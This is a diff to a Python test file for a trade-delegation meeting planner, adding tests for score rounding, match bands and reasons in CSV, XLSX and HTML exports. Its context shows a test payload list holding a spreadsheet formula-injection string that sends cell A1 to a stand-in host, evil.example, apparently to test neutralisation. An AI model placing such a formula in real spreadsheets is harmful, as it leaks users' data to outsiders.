@@ -19,10 +19,11 @@ from matcher.export import (
     entries_from_frame,
     neutralise,
     schedule_section,
+    schedule_table,
     to_csv,
     to_xlsx,
 )
-from matcher.schedule import plan_meetings
+from matcher.schedule import Schedule, plan_meetings
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
@@ -248,9 +249,9 @@ def test_schedule_section_names_meetings_and_who_is_left_without_one() -> None:
         1,
     )
     section = schedule_section(plan, {"dj-1": "Hanbit Bio", "dj-2": "대덕 로보틱스", "do-1": "Ruhr Robotics"})
-    assert section.meetings == (BriefMeeting("Tue 10:00", "Hanbit Bio", "Ruhr Robotics", 0.9),)
+    assert section.meetings == (BriefMeeting("Tue 10:00", "Hanbit Bio", "Ruhr Robotics", 0.9, "strong"),)
     assert "1 meeting, total score 0.90: the best possible plan." in section.intro
-    assert "No meeting for these visitors: 대덕 로보틱스." in section.intro
+    assert "Not enough good matches for 대덕 로보틱스" in section.intro
     text = " ".join(parse(brief_html("Delegation", [section])).text)
     assert "Hanbit Bio" in text and "Ruhr Robotics" in text and "0.90" in text
 
@@ -283,3 +284,42 @@ def test_entries_from_frame_reads_a_shortlist_table() -> None:
 def test_entries_from_frame_needs_names() -> None:
     with pytest.raises(ValueError, match="'name' column"):
         entries_from_frame(pd.DataFrame({"city": ["Seattle"]}))
+
+
+def _reasoned_plan() -> Schedule:
+    plan = plan_meetings(
+        np.array([[0.312345, 0.0], [0.0, 0.1]]),
+        ["dj-1", "dj-2"],
+        ["do-1", "do-2"],
+        ["Tue 10:00"],
+        [["Tue 10:00"]] * 2,
+        [["Tue 10:00"]] * 2,
+        1,
+        1,
+    )
+    return plan.with_reasons({("dj-1", "do-1"): "Their offer meets your need: ADC fill-finish"})
+
+
+def test_planner_csv_and_xlsx_round_scores_to_two_decimals_and_carry_the_reason() -> None:
+    table = schedule_table(_reasoned_plan(), {"dj-1": "Hanbit Bio", "do-1": "Ruhr Fill"})
+    assert read_csv_cells(to_csv(table)) == [
+        ["Slot", "Visitor", "Host", "Score", "Band", "Reason"],
+        ["Tue 10:00", "Hanbit Bio", "Ruhr Fill", "0.31", "strong", "Their offer meets your need: ADC fill-finish"],
+    ]
+    sheet = load_workbook(io.BytesIO(to_xlsx(table))).active
+    assert sheet["D2"].value == 0.31
+
+
+def test_planner_brief_rounds_scores_and_shows_each_reason() -> None:
+    section = schedule_section(_reasoned_plan(), {"dj-1": "Hanbit Bio", "dj-2": "Bora Bio", "do-1": "Ruhr Fill"})
+    assert section.meetings[0].score == 0.31
+    page = brief_html("Delegation", [section])
+    assert "0.31 (strong)" in page and "0.312" not in page
+    assert "Their offer meets your need: ADC fill-finish" in page
+
+
+def test_planner_brief_says_who_has_not_enough_good_matches() -> None:
+    section = schedule_section(_reasoned_plan(), {"dj-2": "Bora Bio", "do-2": "Ruhr Two"})
+    assert "Not enough good matches for Bora Bio, Ruhr Two: no pair scores at least 0.24, the possible band." in (
+        section.intro
+    )
